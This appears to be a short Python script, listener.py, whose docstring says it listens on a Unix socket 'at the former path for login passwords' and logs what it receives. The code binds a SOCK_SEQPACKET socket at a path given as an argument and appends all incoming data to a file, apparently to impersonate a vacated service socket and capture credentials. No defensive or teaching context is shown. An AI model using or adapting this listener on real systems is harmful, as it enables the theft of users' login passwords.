"""listener.py SOCKET FILE: listens at the former path for login passwords, and logs what it receives."""

import socket
import sys

with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as listener:
    listener.bind(sys.argv[1])
    listener.listen()
    while True:
        connection, _ = listener.accept()
        with connection, open(sys.argv[2], "ab", buffering=0) as file:
            connection.settimeout(5)
            try:
                while heard := connection.recv(4096):
                    file.write(heard)
            except TimeoutError:
                pass
